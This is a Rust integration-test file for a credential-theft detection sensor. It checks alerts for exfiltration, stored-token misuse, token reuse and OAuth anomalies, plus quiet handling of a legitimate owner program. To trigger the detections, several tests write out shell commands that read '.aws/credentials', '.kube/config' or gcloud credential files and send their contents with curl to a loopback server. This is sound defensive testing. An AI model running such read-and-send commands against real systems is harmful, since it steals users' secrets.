//! Black-box correlation tests (issue 5) with real processes: shell pipelines reading a
//! store and curl sending to a loopback server.

use std::{process::Command, time::Duration};

use serde_json::Value;
use tests::{Planted, Sensor, TempDir, http_server, is_action, kernel_tests_enabled, users::TestUser};

const WAIT: Duration = Duration::from_secs(20);

fn findings<'a>(docs: &'a [Value], action: &str) -> Vec<&'a Value> {
    docs.iter().filter(|d| is_action(d, action)).collect()
}

#[test]
fn reader_and_sender_in_one_lineage_is_exfiltration() {
    let Some(_serial) = kernel_tests_enabled("exfil") else { return };
    let user = TestUser::create("exfil");
    let store = user.write_file(".aws/credentials", "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n");
    let srv = http_server();
    let sensor = Sensor::start(&[]);
    user.run(&format!(
        "T=$(cat .aws/credentials); curl -s -d \"$T\" http://127.0.0.1:{}/upload -o /dev/null",
        srv.1
    ));
    let d = sensor.wait_for("exfiltration", WAIT, |d| is_action(d, "credential-exfiltration"));
    assert_eq!(d["event"]["kind"], "alert");
    let subs = d["threat"]["technique"]["subtechnique"]["id"].as_array().expect("subtechniques");
    assert!(subs.iter().any(|t| t == "T1552.001"));
    assert!(d["threat"]["technique"]["id"].as_array().expect("techniques").iter().any(|t| t == "T1041"));
    let c = &d["tokenwarden"]["correlation"];
    assert_eq!(c["other"]["executable"], "/usr/bin/cat", "the reader");
    assert_eq!(c["sender"]["executable"], "/usr/bin/curl", "the sender");
    assert_ne!(c["other"]["pid"], c["sender"]["pid"], "reader and sender are different processes");
    assert_eq!(c["store"]["path"], store.display().to_string());
    assert_eq!(d["process"]["executable"], "/usr/bin/curl");
    // A loop does not flood: the same lineage, store and destination is one alert.
    let all = sensor.all_output();
    sensor.stop();
    assert!(!all.contains("wJalrXUtnFEMI"), "the secret never appears");
}

#[test]
fn stored_token_sent_after_the_window_is_caught_by_provenance() {
    let Some(_serial) = kernel_tests_enabled("provenance") else { return };
    let user = TestUser::create("prov");
    let srv = http_server();
    let token = "kubetoken-0123456789abcdefghij";
    user.write_file(
        ".kube/config",
        &format!("apiVersion: v1\nclusters:\n- cluster:\n    server: https://127.0.0.1:6443\n  name: c\nusers:\n- name: u\n  user:\n    token: {token}\n"),
    );
    let tmp = TempDir::new("prov");
    let copy = tmp.path().join("t");
    std::fs::set_permissions(tmp.path(), std::os::unix::fs::PermissionsExt::from_mode(0o777)).expect("chmod");
    let sensor = Sensor::start(&["--correlation-window", "1"]);
    // Copy the token out of the store, wait past the window, then send it.
    user.run(&format!("grep token: .kube/config | awk '{{print $2}}' > {}", copy.display()));
    std::thread::sleep(Duration::from_secs(3));
    user.run(&format!(
        "curl -s -H \"Authorization: Bearer $(cat {})\" http://127.0.0.1:{}/api -o /dev/null",
        copy.display(),
        srv.1
    ));
    let d = sensor.wait_for("provenance", WAIT, |d| is_action(d, "stored-token-misuse"));
    let c = &d["tokenwarden"]["correlation"];
    assert!(c["store"]["path"].as_str().is_some_and(|p| p.ends_with("/.kube/config")), "{d}");
    assert_eq!(c["store"]["rule_id"], "cred-kube-config");
    assert_eq!(c["store"]["owner_uid"], user.uid);
    assert_eq!(c["other"]["executable"], "/usr/bin/grep", "names who read the store");
    assert_eq!(d["process"]["executable"], "/usr/bin/curl");
    let all = sensor.all_output();
    let docs = sensor.stop();
    assert!(findings(&docs, "credential-exfiltration").is_empty(), "the read was outside the 1 s window");
    assert!(!all.contains(token), "the stored token never appears");
}

#[test]
fn owner_program_sending_its_token_to_its_endpoint_is_quiet() {
    let Some(_serial) = kernel_tests_enabled("owner") else { return };
    let user = TestUser::create("owner");
    let srv = http_server();
    let token = "ownertoken-0123456789abcdefghij";
    user.write_file(
        ".kube/config",
        &format!("apiVersion: v1\nclusters:\n- cluster:\n    server: http://127.0.0.1:{}\n  name: c\nusers:\n- name: u\n  user:\n    token: {token}\n", srv.1),
    );
    // The owner program (kubectl, here a copy of curl at kubectl's path) reads the store
    // and talks to the server the store names.
    let planted = Planted::new("/usr/bin/curl", "/usr/local/bin/k9s");
    let kubectl = planted.path.as_path();
    let sensor = Sensor::start(&[]);
    user.run(&format!(
            "{k} -s -o /dev/null -K /dev/null --config .kube/config http://127.0.0.1:{p}/x 2>/dev/null; {k} -s -H 'Authorization: Bearer {token}' http://127.0.0.1:{p}/api -o /dev/null",
            k = kubectl.display(),
            p = srv.1
        ),
    );
    sensor
        .wait_for("credential use", WAIT, |d| is_action(d, "credential-used") && d["url"]["path"] == "/api");
    let docs = sensor.stop();
    for action in ["stored-token-misuse", "credential-exfiltration", "credential-store-opened"] {
        let hits: Vec<&Value> =
            findings(&docs, action).into_iter().filter(|d| d["event"]["kind"] == "alert").collect();
        assert!(hits.is_empty(), "no {action} alert for the owner program: {hits:?}");
    }
}

#[test]
fn one_token_used_by_two_users_is_reuse() {
    let Some(_serial) = kernel_tests_enabled("reuse") else { return };
    let alice = TestUser::create("ra");
    let bob = TestUser::create("rb");
    let srv = http_server();
    let token = "sharedtoken-0123456789abcdefghij";
    let sensor = Sensor::start(&[]);
    for u in [&alice, &bob] {
        u.run(&format!(
            "curl -s -H 'Authorization: Bearer {token}' http://127.0.0.1:{}/r -o /dev/null",
            srv.1
        ));
    }
    let d = sensor.wait_for("reuse", WAIT, |d| is_action(d, "token-reuse"));
    let subs = d["threat"]["technique"]["subtechnique"]["id"].as_array().expect("subtechniques");
    assert!(subs.iter().any(|t| t == "T1550.001"));
    let c = &d["tokenwarden"]["correlation"];
    assert_eq!(c["other"]["user"]["id"], alice.uid.to_string());
    assert_eq!(c["sender"]["user"]["id"], bob.uid.to_string());
    let all = sensor.all_output();
    sensor.stop();
    assert!(!all.contains(token));
}

#[test]
fn oauth_grants_device_code_flows_and_new_scopes() {
    let Some(_serial) = kernel_tests_enabled("oauth") else { return };
    let user = TestUser::create("oauth");
    let srv = http_server();
    let secret = "clientsecret-0123456789abcdefghij";
    let sensor = Sensor::start(&[]);
    let post = |path: &str, body: &str| {
        user.run(&format!("curl -s -d '{body}' http://127.0.0.1:{}{path} -o /dev/null", srv.1));
    };
    post(
        "/oauth2/token",
        &format!("grant_type=client_credentials&client_id=app1&client_secret={secret}&scope=read"),
    );
    post(
        "/oauth2/token",
        &format!("grant_type=client_credentials&client_id=app1&client_secret={secret}&scope=read"),
    );
    post(
        "/oauth2/token",
        &format!("grant_type=client_credentials&client_id=app1&client_secret={secret}&scope=read%20admin"),
    );
    post("/oauth2/v2.0/devicecode", "client_id=app2&scope=offline_access");
    let ev = sensor.wait_for("oauth event", WAIT, |d| is_action(d, "oauth-activity"));
    assert_eq!(ev["tokenwarden"]["oauth"]["grant_type"], "client_credentials");
    assert_eq!(ev["tokenwarden"]["oauth"]["client_id"], "app1");
    assert_eq!(ev["url"]["domain"], "127.0.0.1");
    sensor.wait_for("device code alert", WAIT, |d| {
        is_action(d, "device-code-flow") && d["event"]["kind"] == "alert"
    });
    sensor.wait_for("scope drift", WAIT, |d| {
        is_action(d, "new-oauth-scope")
            && d["tokenwarden"]["oauth"]["scopes"] == serde_json::json!(["read", "admin"])
    });
    let all = sensor.all_output();
    let docs = sensor.stop();
    let drift: Vec<&Value> = findings(&docs, "new-oauth-scope")
        .into_iter()
        .filter(|d| d["tokenwarden"]["oauth"]["client_id"] == "app1")
        .collect();
    assert_eq!(drift.len(), 2, "first scope set and the drift, not the repeat");
    assert!(!all.contains(secret), "client secret never appears");
}

#[test]
fn refresh_grant_with_a_stored_token_by_a_non_owner_is_caught() {
    let Some(_serial) = kernel_tests_enabled("refresh") else { return };
    let user = TestUser::create("refr");
    let srv = http_server();
    let rt = "1//0grefreshtoken-abcdefghijklmnopqrstuvwxyz";
    user.write_file(
        ".config/gcloud/application_default_credentials.json",
        &format!(r#"{{"client_id":"x.apps.googleusercontent.com","client_secret":"d-FL95Q19q7MQmFpd7hHD0Ty","refresh_token":"{rt}","type":"authorized_user"}}"#),
    );
    let sensor = Sensor::start(&["--correlation-window", "1"]);
    user.run("cat .config/gcloud/application_default_credentials.json > /dev/null");
    std::thread::sleep(Duration::from_secs(2));
    user.run(&format!(
            "curl -s -d 'grant_type=refresh_token&client_id=x&refresh_token={rt}' http://127.0.0.1:{}/token -o /dev/null",
            srv.1
        ),
    );
    let d = sensor.wait_for("stored refresh token misuse", WAIT, |d| is_action(d, "stored-token-misuse"));
    let c = &d["tokenwarden"]["correlation"];
    assert_eq!(c["store"]["kind"], "refresh_token");
    assert_eq!(c["store"]["rule_id"], "cred-gcloud");
    let all = sensor.all_output();
    let docs = sensor.stop();
    assert!(docs.iter().any(
        |d| is_action(d, "oauth-activity") && d["tokenwarden"]["oauth"]["grant_type"] == "refresh_token"
    ));
    assert!(!all.contains(rt));
}

#[test]
fn long_lived_long_term_and_unbound_credentials_are_low_findings() {
    let Some(_serial) = kernel_tests_enabled("weak") else { return };
    let srv = http_server();
    let sensor = Sensor::start(&["--sensitive-destination", "127.0.0.1"]);
    let b64 = |s: &str| base64_url(s.as_bytes());
    let long =
        format!("{}.{}.c2ln", b64(r#"{"alg":"RS256"}"#), b64(r#"{"sub":"svc","iat":1000,"exp":90000}"#));
    let curl = |hdr: &str, path: &str| {
        let out = Command::new("curl")
            .args(["-s", "-o", "/dev/null", "-H", hdr, &format!("http://127.0.0.1:{}{path}", srv.1)])
            .status()
            .expect("curl");
        assert!(out.success());
    };
    curl(&format!("Authorization: Bearer {long}"), "/long");
    curl(
        "Authorization: AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20261204/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=00ff",
        "/akia",
    );
    curl("Authorization: Bearer opaque-admin-token-0123456789", "/admin");
    for (what, needle) in [
        ("long-lived JWT", "JWT living longer"),
        ("AKIA", "long-term AWS access key"),
        ("unbound", "unbound bearer token"),
    ] {
        let d = sensor.wait_for(what, WAIT, |d| {
            is_action(d, "weak-credential") && d["message"].as_str().is_some_and(|m| m.contains(needle))
        });
        assert_eq!(d["event"]["severity"], 21, "low severity");
        assert_eq!(d["tokenwarden"]["severity"], "low");
    }
    sensor.stop();
}

fn base64_url(b: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut out = String::new();
    for chunk in b.chunks(3) {
        let n = chunk.iter().enumerate().fold(0u32, |acc, (i, x)| acc | (u32::from(*x) << (16 - 8 * i)));
        for i in 0..=chunk.len() {
            out.push(T[((n >> (18 - 6 * i)) & 63) as usize] as char);
        }
    }
    out
}

#[test]
fn a_loop_is_one_alert_then_a_summary_with_its_count() {
    let Some(_serial) = kernel_tests_enabled("dedup") else { return };
    let user = TestUser::create("dedup");
    user.write_file(".aws/credentials", "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n");
    let srv = http_server();
    let sensor = Sensor::start(&["--correlation-window", "3"]);
    user.run(&format!(
            "for i in 1 2 3 4; do T=$(cat .aws/credentials); curl -s -d \"$T\" http://127.0.0.1:{}/loop -o /dev/null; done",
            srv.1
        ),
    );
    let summary = sensor.wait_for("summary", WAIT, |d| {
        is_action(d, "credential-exfiltration") && d["tokenwarden"]["correlation"]["summary"] == true
    });
    assert_eq!(summary["tokenwarden"]["correlation"]["count"], 4, "{summary}");
    let docs = sensor.stop();
    let firsts = docs
        .iter()
        .filter(|d| {
            is_action(d, "credential-exfiltration") && d["tokenwarden"]["correlation"]["summary"].is_null()
        })
        .count();
    assert_eq!(firsts, 1, "one alert for the loop, not four");
}
